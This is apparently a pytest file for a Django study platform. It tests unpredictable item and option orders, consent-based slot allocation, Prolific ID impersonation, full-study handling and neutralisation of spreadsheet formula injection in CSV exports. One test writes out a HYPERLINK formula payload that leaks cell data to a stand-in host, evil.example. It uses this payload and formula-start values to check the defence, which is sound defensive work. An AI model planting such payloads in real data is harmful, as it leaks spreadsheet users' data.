"""Human-baseline integrity (issue 12): orders no participant can recompute, places taken by people at consent
and given back on expiry, Prolific ids that prove nothing alone, full studies said to be full, safe CSV cells."""

from __future__ import annotations

import csv
import hashlib
import io
import random
import re
from datetime import timedelta
from pathlib import Path

import pytest
from django.test import Client
from django.utils import timezone

from annotator.models import Category, Domain
from evaluation.models import Participant, Study, StudyItem
from evaluation.studies import participation
from evaluation.studies import services as studies
from evaluation.studies.reports import study_results
from subtlebench.spreadsheet_csv import FORMULA_STARTS, neutralised
from tests.factories import DESKTOP_WINDOW, make_pair
from tests.release_factories import make_release

pytestmark = pytest.mark.django_db

FIVE_OPTIONS = {"answer": "a red car", "distractors": ["a blue car", "a bus", "a bike", "a tram"]}


def make_pool(n: int, **fields) -> list:
    kinds = [Category.TEMPORAL, Category.STATE, Category.ACTION]
    return [make_pair(category=kinds[i % 3], domain=Domain.NATURAL, **fields) for i in range(n)]


def open_url(study: Study, **params) -> str:
    query = "&".join(f"{k}={v}" for k, v in params.items())
    return f"/p/open/{study.open_token}/" + (f"?{query}" if query else "")


def consent_open(client: Client, study: Study, **params) -> Participant:
    """Agree on the open link as a browser does: the page's form, posted with the parameters it carries."""
    response = client.post(f"/p/open/{study.open_token}/consent/", {"agree": "yes", **params, **DESKTOP_WINDOW})
    assert response.status_code == 302, response.content
    token = response["Location"].split("/")[2]
    return Participant.objects.get(token=token)


def answer_everything(participant: Participant) -> None:
    while (a := participation.participant_next_item(participant=participant)) is not None:
        participation.assignment_answer(participant=participant, token=a.token, position=1)


def run_through_practice(participant: Participant) -> None:
    while (a := participation.participant_next_practice(participant=participant)) is not None:
        participation.assignment_answer(participant=participant, token=a.token, position=1)


# --- 1. Orders only the server can compute -------------------------------------------------------------------


def old_option_order(token: str, item_pk: int, options: int) -> list[int]:
    """The previous code: random.Random(f"{token}:{pk}") shuffled the options."""
    permutation = list(range(options))
    random.Random(f"{token}:{item_pk}").shuffle(permutation)
    return permutation


def old_serving_order(token: str, item_pks: list[int]) -> list[int]:
    """The previous code: among items with as many raters, ORDER BY md5(token || pk)."""
    return sorted(item_pks, key=lambda pk: hashlib.md5(f"{token}{pk}".encode()).hexdigest())


def old_check_positions(token: str, expected: int, checks: int) -> list[int]:
    """The previous code: random.Random(token).sample(range(1, expected + checks + 1), checks)."""
    return sorted(random.Random(token).sample(range(1, expected + checks + 1), checks))


def take_session_as_a_script_would(client: Client, study: Study, number: int) -> dict:
    """Everything one session of the open link sees: its token (in its URLs), the options of every item in the
    order shown, the practice feedback's answer, and which item came when (the test, as judge, names them)."""
    params = {"PROLIFIC_PID": f"attacker{number}", "STUDY_ID": "st", "SESSION_ID": f"se{number}"}
    seen = [client.get(open_url(study, **params)).content.decode()]
    participant = consent_open(client, study, **params)
    token = participant.token
    practice = []
    while True:
        page = client.get(f"/p/{token}/practice/")
        seen.append(page.content.decode())
        if "assignment" not in (page.context or {}):
            break
        assignment = page.context["assignment"]
        feedback = client.post(f"/p/{token}/practice/{assignment.token}/", {"option": 1}, follow=True)
        seen.append(feedback.content.decode())
        practice.append({"item": assignment.item, "shown": page.context["options"], "feedback": seen[-1]})
    served = []
    while True:
        page = client.get(f"/p/{token}/items/")
        if page.status_code == 302:
            break
        seen.append(page.content.decode())
        assignment = page.context["assignment"]
        served.append({"item": assignment.item, "sequence": assignment.sequence, "shown": page.context["options"]})
        client.post(f"/p/{token}/items/{assignment.token}/", {"option": 1})
    return {"participant": participant, "token": token, "practice": practice, "served": served, "seen": seen}


def test_the_orders_served_cannot_be_recomputed_from_what_two_open_link_sessions_see():
    make_pool(40, **FIVE_OPTIONS)
    study = studies.study_create(name="S", fraction=0.75, raters_per_item=2, practice_count=3, open_cap=5)
    # The checks are added before anyone arrives, so the old formula would have placed them from the token.
    outside = [make_pair(**FIVE_OPTIONS) for _ in range(4)]
    studies.study_add_attention_checks(study=study, pair_ids=[p.pk for p in outside])
    scored_total, checks_total = study.items.scored().count(), study.items.attention().count()
    assert (scored_total, checks_total) == (30, 4)

    sessions = [take_session_as_a_script_would(Client(), study, n) for n in (1, 2)]
    observed = 0
    option_matches = correct_predicted = check_matches = 0
    for session in sessions:
        token = session["token"]
        assert len(session["served"]) == scored_total + checks_total
        assert len(session["practice"]) == 3
        # Option order: the previous formula, given even the true item ids, does not give the order shown.
        for seen in session["served"] + session["practice"]:
            options = seen["item"].pair.options
            shown_permutation = [options.index(text) for text in seen["shown"]]
            predicted = old_option_order(token, seen["item"].pk, len(options))
            option_matches += predicted == shown_permutation
            correct_predicted += predicted.index(0) == shown_permutation.index(0)
            observed += 1
        # The practice feedback names the answer: the script's check of its guesses. It matches what was shown.
        for seen in session["practice"]:
            assert seen["item"].pair.answer in seen["feedback"]
        # Serving order: md5(token || pk) does not give the order the scored items came in.
        scored = [s["item"].pk for s in session["served"] if s["item"].kind == StudyItem.Kind.SCORED]
        predicted_order = old_serving_order(token, scored)
        assert scored != predicted_order
        assert sum(a == b for a, b in zip(scored, predicted_order, strict=True)) < scored_total // 2
        # Attention checks: random.Random(token) does not give the places they were served at.
        checks = [s["sequence"] for s in session["served"] if s["item"].kind == StudyItem.Kind.ATTENTION]
        assert len(checks) == checks_total
        check_matches += checks == old_check_positions(token, scored_total, checks_total)
        # The secret every order comes from never reaches the participant.
        session["participant"].refresh_from_db()
        assert session["participant"].order_seed not in "".join(session["seen"])
    # 68 items of 5 options: the old formulas got all 68 orders and answers; chance gets about 0.6 orders and
    # 14 answers (1 in 120 and 1 in 5), so fewer than half is far beyond luck either way.
    assert observed == 2 * (scored_total + checks_total + 3)
    assert option_matches < observed // 4
    assert correct_predicted < observed // 2
    # 4 places of 34: a session's checks land where the old formula puts them by chance once in 46,376 (it was seen
    # once); both sessions, once in about 2 billion.
    assert check_matches < 2
    # And the two sessions of one link got different orders of their own.
    first, second = ([s["item"].pk for s in session["served"]] for session in sessions)
    assert first != second


def test_attention_checks_are_spread_through_sessions_invited_before_they_were_added():
    pool = make_pool(24)
    study = studies.study_create(name="S", fraction=0.85, raters_per_item=3, practice_count=0)
    invited = studies.study_invite(study=study, count=3)  # before the checks exist
    sampled = set(study.items.values_list("pair_id", flat=True))
    studies.study_add_attention_checks(study=study, pair_ids=[p.pk for p in pool if p.pk not in sampled][:3])
    scored = study.items.scored().count()
    placements = []
    for participant in invited:
        participant.consent()
        kinds = []
        while (a := participation.participant_next_item(participant=participant)) is not None:
            kinds.append(a.item.kind)
            participation.assignment_answer(participant=participant, token=a.token, position=1)
        assert kinds.count(StudyItem.Kind.ATTENTION) == 3 and kinds.count(StudyItem.Kind.SCORED) == scored
        placements.append([n for n, kind in enumerate(kinds, start=1) if kind == StudyItem.Kind.ATTENTION])
    at_the_end = [scored + 1, scored + 2, scored + 3]
    # Uniform placement puts all three last with chance 1 in 1540 per session; the old code always did.
    assert any(places != at_the_end for places in placements)
    assert min(min(places) for places in placements) <= scored  # some check came before the last scored item


def test_each_participant_draws_a_seed_of_their_own_that_no_page_shows(client):
    make_pool(3)
    study = studies.study_create(name="S", fraction=1, practice_count=0)
    seeds = {p.order_seed for p in studies.study_invite(study=study, count=20)}
    assert len(seeds) == 20 and all(len(seed) == 32 for seed in seeds)


# --- 2. Places are taken by people, not requests ------------------------------------------------------------


def test_gets_of_the_open_link_and_of_invites_create_nobody_and_take_no_place(client):
    make_pool(6)
    study = studies.study_create(name="S", fraction=1, open_cap=5)
    invite = studies.participant_create(study=study)
    for number in range(8):
        page = client.get(open_url(study, PROLIFIC_PID=f"p{number}", STUDY_ID="st", SESSION_ID=f"s{number}"))
        assert page.status_code == 200 and b"Consent" in page.content
        assert Client().get(open_url(study)).status_code == 200  # anonymous, no parameters
        client.get(f"/p/{invite.token}/?PROLIFIC_PID=inv&STUDY_ID=st&SESSION_ID=x")
    assert list(study.participants.all()) == [invite]
    invite.refresh_from_db()
    assert (invite.consented_at, invite.prolific_pid, invite.expires_at) == (None, "", None)
    assert study.open_slots_left == 5


def test_the_open_link_takes_places_at_consent_up_to_its_cap_and_the_same_browser_resumes():
    make_pool(6)
    study = studies.study_create(name="S", fraction=1, open_cap=2, session_minutes=30)
    first_browser = Client()
    first = consent_open(first_browser, study, PROLIFIC_PID="a1", STUDY_ID="st", SESSION_ID="s1")
    assert first.via_open_link and first.consented_at and first.prolific_pid == "a1"
    assert first.expires_at == first.consented_at + timedelta(minutes=30)
    again = first_browser.get(open_url(study, PROLIFIC_PID="a1"))
    assert again["Location"] == f"/p/{first.token}/practice/"
    consent_open(Client(), study, PROLIFIC_PID="a2", STUDY_ID="st", SESSION_ID="s2")
    late = Client()
    assert late.get(open_url(study, PROLIFIC_PID="a3")).status_code == 403
    refused = late.post(
        f"/p/open/{study.open_token}/consent/", {"agree": "yes", "PROLIFIC_PID": "a3", **DESKTOP_WINDOW}
    )
    assert refused.status_code == 403 and b"full" in refused.content
    assert study.participants.count() == 2
    # Agreeing is required: without the box ticked nobody is admitted.
    study.open_cap = 3
    study.save()
    assert late.post(f"/p/open/{study.open_token}/consent/", {"PROLIFIC_PID": "a3"}).status_code == 400
    assert study.participants.count() == 2


def test_an_expired_unfinished_session_gives_its_place_and_its_items_back():
    make_pair(**FIVE_OPTIONS)
    study = studies.study_create(name="S", fraction=1, practice_count=0, open_cap=1, session_minutes=15)
    assert study.items.scored().count() == 1
    past = timezone.now() - timedelta(minutes=16)
    early = participation.participant_join_open(study=study, params={"PROLIFIC_PID": "early"}, now=past)
    early.finish_practice(past)
    held = participation.participant_next_item(participant=early, now=past + timedelta(minutes=1))
    assert held is not None  # it leased the only item, then its session ran out
    # Its open-link place and its item's place are free again: a newcomer is admitted and gets that item.
    assert study.open_slots_left == 1
    browser = Client()
    assert browser.get(open_url(study, PROLIFIC_PID="newcomer")).status_code == 200
    newcomer = consent_open(browser, study, PROLIFIC_PID="newcomer")
    run_through_practice(newcomer)
    assert participation.participant_next_item(participant=newcomer).item == held.item
    # The expired session takes no more answers, shows why, and is counted as expired, not finished.
    with pytest.raises(participation.SessionExpired):
        participation.assignment_answer(participant=early, token=held.token, position=1)
    page = Client().get(f"/p/{early.token}/items/", follow=True)
    assert b"Your time ran out" in page.content and study.completion_code.encode() not in page.content
    progress = study_results(study)["progress"]
    assert (progress["expired"], progress["finished"]) == (1, 0)


# --- 2. Prolific ids -----------------------------------------------------------------------------------------


def test_a_strangers_prolific_pid_gets_no_session_and_sees_already_taken_part():
    make_pool(6)
    study = studies.study_create(name="S", fraction=1, open_cap=5)
    owner_browser = Client()
    owner = consent_open(owner_browser, study, PROLIFIC_PID="victim", STUDY_ID="st", SESSION_ID="se-owner")
    stranger = Client()
    for params in (
        {"PROLIFIC_PID": "victim"},
        {"PROLIFIC_PID": "victim", "STUDY_ID": "st"},
        {"PROLIFIC_PID": "victim", "STUDY_ID": "st", "SESSION_ID": "se-guess"},
        {"PROLIFIC_PID": "victim", "SESSION_ID": "se-owner"},
    ):
        page = stranger.get(open_url(study, **params))
        assert page.status_code == 403 and b"already taken part" in page.content
        assert owner.token.encode() not in page.content
        posted = stranger.post(f"/p/open/{study.open_token}/consent/", {"agree": "yes", **params, **DESKTOP_WINDOW})
        assert posted.status_code == 403 and owner.token.encode() not in posted.content
    assert study.participants.count() == 1
    # An invite cannot take the id either.
    invite = studies.participant_create(study=study)
    assert Client().get(f"/p/{invite.token}/?PROLIFIC_PID=victim").status_code == 403
    assert (
        Client()
        .post(f"/p/{invite.token}/consent/", {"agree": "yes", "PROLIFIC_PID": "victim", **DESKTOP_WINDOW})
        .status_code
        == 403
    )
    invite.refresh_from_db()
    assert invite.consented_at is None
    # The owner gets the session back: in the same browser session, or with Prolific's study and session ids.
    assert owner_browser.get(open_url(study, PROLIFIC_PID="victim"))["Location"] == f"/p/{owner.token}/practice/"
    returning = Client().get(open_url(study, PROLIFIC_PID="victim", STUDY_ID="st", SESSION_ID="se-owner"))
    assert returning["Location"] == f"/p/{owner.token}/practice/"


# --- 3. Full studies -----------------------------------------------------------------------------------------


def test_a_full_study_gives_the_no_items_code_never_the_completion_code_and_counts_arrivals_apart(
    client_for, coordinator
):
    make_pool(6)
    study = studies.study_create(
        name="S", fraction=0.5, practice_count=1, open_cap=10, invites=2, no_items_url="https://app.prolific.com/nope"
    )
    first, unused = study.participants.all()
    participation.participant_answer_all(participant=first)
    assert study.is_full()
    for page in (Client().get(f"/p/{unused.token}/"), Client().get(open_url(study, PROLIFIC_PID="late"))):
        html = page.content.decode()
        assert "No items left" in html and study.no_items_code in html and "https://app.prolific.com/nope" in html
        assert study.completion_code not in html and 'name="agree"' not in html
    browser = Client()
    browser.get(open_url(study))  # visits of the consent page turn nobody away: nobody agreed
    for _ in range(2):  # two agreements in the same browser are one arrival
        page = browser.post(f"/p/open/{study.open_token}/consent/", {"agree": "yes", **DESKTOP_WINDOW})
        assert "No items left" in page.content.decode()
    consented = Client()
    assert (
        "No items left"
        in consented.post(f"/p/open/{study.open_token}/consent/", {"agree": "yes", **DESKTOP_WINDOW}).content.decode()
    )
    assert Client().post(f"/p/{unused.token}/consent/", {"agree": "yes", **DESKTOP_WINDOW}).status_code == 302
    assert not Participant.objects.filter(study=study, via_open_link=True).exists()
    unused.refresh_from_db()
    assert unused.stage == "turned away" and unused.consented_at is None
    study.refresh_from_db()
    progress = study_results(study)["progress"]
    assert (progress["finished"], progress["turned_away"]) == (1, 3)  # the invite and two browsers that agreed
    # The API tells a turned-away participant the same, without the completion code.
    api = Client().get(f"/api/p/{unused.token}/item/").json()
    assert api == {"done": True, "no_items": True, "no_items_code": study.no_items_code}
    # The coordinator sees it: the dashboard counts them apart; the invites page flags the links and refuses more.
    client = client_for(coordinator)
    assert "3 turned away" in client.get(f"/studies/{study.pk}/").content.decode()
    invites = client.get(f"/studies/{study.pk}/invites/").content.decode()
    assert 'id="study-full"' in invites and "0 of 2 links can still be used" in invites
    refused = client.post(f"/studies/{study.pk}/invites/create/", {"count": 3}, follow=True)
    assert b"This study is full" in refused.content and study.participants.count() == 2
    with pytest.raises(studies.StudyFullForInvites):
        studies.study_invite(study=study, count=1)


def test_a_session_that_consented_before_the_study_filled_is_turned_away_not_finished(client):
    make_pool(6)
    study = studies.study_create(name="S", fraction=0.5, practice_count=1, invites=2)
    fast, slow = study.participants.all()
    for participant in (fast, slow):
        assert client.post(f"/p/{participant.token}/consent/", {"agree": "yes", **DESKTOP_WINDOW}).status_code == 302
    participation.participant_answer_all(participant=fast)
    run_through_practice(slow)
    page = client.get(f"/p/{slow.token}/items/", follow=True)
    html = page.content.decode()
    assert "No items left" in html and study.no_items_code in html and study.completion_code not in html
    slow.refresh_from_db()
    assert slow.finished_at is None and slow.stage == "turned away"
    assert client.get(f"/p/{slow.token}/done/").content.decode().count(study.completion_code) == 0
    progress = study_results(study)["progress"]
    assert (progress["finished"], progress["turned_away"]) == (1, 1)


def test_the_invites_page_shows_which_links_can_still_be_used(client_for, coordinator):
    make_pool(6)
    # Three raters an item, each session all three items: three places, for done, going and unused (expired gave
    # its place back).
    study = studies.study_create(name="S", fraction=0.5, raters_per_item=3, practice_count=0, invites=4)
    done, going, expired, unused = study.participants.all()
    participation.participant_answer_all(participant=done)
    going.consent()
    expired.consent(now=timezone.now() - timedelta(hours=2))
    rows = client_for(coordinator).get(f"/studies/{study.pk}/invites/").context["rows"]
    states = {row["p"].pk: (row["usable"], row["state"]) for row in rows}
    assert states == {
        done.pk: (False, "used"),
        going.pk: (True, "in progress"),
        expired.pk: (False, "expired"),
        unused.pk: (True, "unused"),
    }


# --- 4. The study form asks each thing once ------------------------------------------------------------------


def test_the_study_form_renders_each_field_once(client_for, coordinator):
    from evaluation.studies.views import StudyForm

    html = client_for(coordinator).get("/studies/").content.decode()
    for name, field in StudyForm.base_fields.items():
        expected = len(field.choices) if name in ("categories", "domains") else 1
        assert len(re.findall(rf'name="{name}"', html)) == expected, name


def test_the_fraction_and_seed_posted_are_the_ones_used(client_for, coordinator):
    make_release(make_pool(10))
    client = client_for(coordinator)
    page = client.get("/studies/").content.decode()
    fields = dict(re.findall(r'name="(\w+)" value="([^"]*)"', page))  # what the browser would post untouched
    selected = r'<select name="(\w+)"[^>]*>(?:(?!</select>).)*?<option value="([^"]*)" selected'
    fields.update(re.findall(selected, page, re.S))  # and the options the selects show chosen
    fields.update(name="Visible", fraction="1", seed="3", session_minutes="45")
    for name in ("csrfmiddlewaretoken", "categories", "domains"):
        fields.pop(name, None)
    assert client.post("/studies/create/", fields).status_code == 302
    study = Study.objects.get(name="Visible")
    assert (study.fraction, study.seed, study.session_minutes) == (1.0, 3, 45)
    assert study.items.scored().count() == 10


# --- 6. CSV cells a spreadsheet would run ----------------------------------------------------------------------


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_starting_like_a_formula_is_neutralised(start):
    assert neutralised(f"{start}1+1") == f"'{start}1+1"


def test_safe_cells_and_numbers_are_left_alone():
    assert [neutralised(v) for v in ("plain", "a=b", " x", "", 3, -2.5, None)] == [
        "plain",
        "a=b",
        " x",
        "",
        3,
        -2.5,
        None,
    ]


def test_responses_csv_neutralises_prolific_ids_and_options(client_for, coordinator):
    make_pair(answer="=1+2", distractors=["+SUM(A1)", "-3", "@cmd", "\tTAB", "\rCR"])
    study = studies.study_create(name="S", fraction=1, practice_count=0, invites=1)
    participant = study.participants.get()
    hostile = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
    participation.participant_consent(participant=participant, params={"PROLIFIC_PID": hostile})
    while (a := participation.participant_next_item(participant=participant)) is not None:
        participation.assignment_answer(participant=participant, token=a.token, position=a.permutation.index(0) + 1)
    body = client_for(coordinator).get(f"/studies/{study.pk}/responses.csv").content.decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(body)))
    cells = dict(zip(header, row, strict=True))
    assert cells["prolific_pid"] == "'" + hostile
    assert cells["correct_answer"] == "'=1+2" and cells["chosen_option"] == "'=1+2"
    assert cells["shown_order"].startswith("'") and not cells["shown_order"][1:].startswith("'")
    for cell in row:
        assert not cell.startswith(FORMULA_STARTS), cell


def test_every_csv_the_app_writes_goes_through_the_safe_writer():
    root = Path(__file__).resolve().parents[2]
    helper = root / "subtlebench" / "spreadsheet_csv.py"
    offenders = []
    for folder in ("subtlebench", "annotator", "evaluation", "api", "demo", "devtools", "bench"):
        for path in (root / folder).rglob("*.py"):
            text = path.read_text()
            if path != helper and re.search(r"csv\.(writer|DictWriter)\(", text):
                offenders.append(str(path.relative_to(root)))
    assert offenders == []


@pytest.mark.django_db(transaction=True)
def test_concurrent_consents_on_the_open_link_never_exceed_its_cap():
    import threading

    from django.db import connection

    make_pool(6)
    study = studies.study_create(name="S", fraction=1, open_cap=3)
    barrier = threading.Barrier(8)
    outcomes = []

    def arrive(number):
        try:
            barrier.wait()
            participation.participant_join_open(study=study, params={"PROLIFIC_PID": f"p{number}"})
            outcomes.append("in")
        except participation.StudyFull:
            outcomes.append("full")
        finally:
            connection.close()

    threads = [threading.Thread(target=arrive, args=(n,)) for n in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(outcomes) == ["full"] * 5 + ["in"] * 3
    assert study.participants.count() == 3


def test_the_api_refuses_new_invites_on_a_full_study(client, coordinator):
    from subtlebench.tokens import api_token_create

    make_pair()
    study = studies.study_create(name="S", fraction=1, practice_count=0, invites=1)
    participation.participant_answer_all(participant=study.participants.get())
    auth = {"HTTP_AUTHORIZATION": f"Token {api_token_create(user=coordinator, name='test')[1]}"}
    response = client.post(
        f"/api/studies/{study.pk}/invites/create/", {"count": 2}, content_type="application/json", **auth
    )
    assert response.status_code == 409 and "full" in response.json()["detail"]
    assert study.participants.count() == 1
